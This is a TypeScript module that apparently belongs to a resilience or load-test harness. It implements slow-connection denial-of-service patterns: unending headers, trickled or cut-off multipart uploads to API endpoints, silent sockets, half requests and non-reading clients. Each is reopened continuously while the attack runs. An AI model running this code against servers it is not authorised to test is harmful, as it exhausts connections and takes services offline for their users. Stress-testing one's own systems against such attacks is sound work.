// Connections that are held and not used, as a table: for as long as an attack lasts each is opened again when it is closed.
import type { Socket } from 'node:net'
import { open, request, type Target } from './wire.ts'

export type Lingering = {
  name: string
  /** On so many connections at once. */
  times: number
  bytes: (target: Target) => Buffer
  /** What comes behind: a byte now and then, nothing, or the end of the connection in the middle of what was begun. */
  after: 'a byte' | 'nothing' | 'the end'
  /** Answers are not taken. */
  deaf?: boolean
}

const MB = 1024 * 1024
const upload = (token: boolean) => (target: Target) =>
  Buffer.concat([
    request(target, token ? 'POST /api/marketplace-orders/' : 'POST /api-auth/password/', {
      headers: { 'Content-Type': 'multipart/form-data; boundary=b', 'Content-Length': String(token ? 50 * MB : 50_000) },
      anonymous: !token,
    }),
    Buffer.alloc(token ? MB / 4 : 1000),
  ])

export const LINGERING: readonly Lingering[] = [
  { name: 'headers that do not end', times: 25, bytes: () => Buffer.from('GET /api/ HTTP/1.1\r\nHost: a\r\nX-A: '), after: 'a byte' },
  { name: 'bodies that do not end', times: 10, bytes: upload(true), after: 'a byte' },
  { name: 'bodies without a token that do not end', times: 20, bytes: upload(false), after: 'a byte' },
  { name: 'bodies that are cut off', times: 3, bytes: upload(true), after: 'the end' },
  { name: 'silence', times: 30, bytes: () => Buffer.alloc(0), after: 'nothing' },
  { name: 'half a request', times: 10, bytes: () => Buffer.from('GET /api/ HTT'), after: 'nothing' },
  {
    name: 'readers that do not read',
    times: 10,
    bytes: (target) => request(target, 'GET /api/docs/', { anonymous: true }),
    after: 'nothing',
    deaf: true,
  },
]

const PAUSE_MS = 200

/** Holds all of them until `stop`. */
export function linger(target: Target, all: readonly Lingering[] = LINGERING): { stop: () => void } {
  const sockets = new Map<Socket, Lingering>()
  let going = true

  async function hold(one: Lingering): Promise<void> {
    const socket = await open(target).catch(() => undefined)
    if (!socket || !going) return void socket?.destroy()
    sockets.set(socket, one)
    socket.on('error', () => undefined)
    socket.on('close', () => {
      sockets.delete(socket)
      if (going) setTimeout(() => hold(one), PAUSE_MS)
    })
    if (one.deaf) socket.pause()
    else socket.resume()
    socket.write(one.bytes(target))
  }
  for (const one of all) for (let i = 0; i < one.times; i++) void hold(one)
  const round = setInterval(() => {
    for (const [socket, { after }] of sockets) {
      if (after === 'a byte' && socket.writable) socket.write('a')
      if (after === 'the end') socket.destroy()
    }
  }, PAUSE_MS)

  return {
    stop: () => {
      going = false
      clearInterval(round)
      for (const socket of sockets.keys()) socket.destroy()
    },
  }
}
